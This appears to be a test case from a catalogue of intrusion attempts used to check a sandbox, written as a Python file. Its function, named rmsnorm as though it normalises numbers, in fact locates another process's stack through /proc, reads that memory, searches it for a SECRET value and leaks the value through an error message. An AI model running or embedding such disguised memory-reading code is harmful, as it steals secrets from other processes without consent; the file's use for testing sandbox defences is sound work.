"""Reads the stack of another process of the user's, where its environment lies, through /proc.

catalogue: [H08, H07]
aim: intrusion
privileged: true
stopped_by: [sandbox]
twin: plain
"""

import re

import targets


def rmsnorm(x, weight):
    with open(f"/proc/{targets.VICTIM}/maps") as file:
        (stack,) = (line.split()[0] for line in file if line.endswith("[stack]\n"))
    first, last = (int(part, 16) for part in stack.split("-"))
    with open(f"/proc/{targets.VICTIM}/mem", "rb", buffering=0) as memory:
        memory.seek(first)
        found = re.search(rb"SECRET=(\w+)", memory.read(last - first))
    raise RuntimeError(found.group(1).decode() if found else "nothing there")
